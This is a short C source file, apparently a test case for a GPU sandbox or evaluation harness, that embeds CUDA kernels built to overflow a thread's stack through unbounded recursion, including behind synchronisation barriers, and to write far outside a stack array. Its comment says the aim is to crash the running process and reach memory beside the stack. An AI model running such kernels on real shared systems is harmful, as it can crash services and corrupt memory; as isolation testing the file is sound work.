/* Tries to overflow the stack of the thread that runs a kernel, in the main part and behind a barrier.
 * Gains a crash of the process that runs it, and what lies next to the stack. */
static const char source[] =
    "__device__ __attribute__((noinline)) int deep(int n, volatile int *x)\n"
    "{ volatile int room[1000]; room[n % 1000] = n; return n < 0 ? 0 : deep(n + 1, x) + room[*x] + deep(n + 2, x); }\n"
    "extern \"C\" __global__ void fall(int *x) { *x = deep(0, x); }\n"
    "extern \"C\" __global__ void fall_behind(int *x) { __syncthreads(); x[threadIdx.x] = deep(0, x); __syncthreads(); "
    "}\n"
    "extern \"C\" __global__ void jump(int *x) { volatile char far[1 << 16]; far[*x - (1 << 22)] = 1; *x = far[0]; }\n";

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    const char *names[] = {"fall", "fall_behind", "jump"};
    lab_module *module;
    lab_function function;
    lab_array *array;
    for (int i = 0; i < 3; i++) {
        if (lab_module_load_source(&module, source, "deep")) break;
        if (lab_module_get_function(&function, module, names[i])) break;
        if (lab_array_zeros(&array, LAB_INT32, LAB_SHAPE(64))) break;
        lab_launch(function, LAB_DIM(2), LAB_DIM(64), 0, NULL, LAB_ARGS(array));
        lab_device_synchronize();
        lab_device_reset(0);
    }
    return LAB_SUCCESS;
}
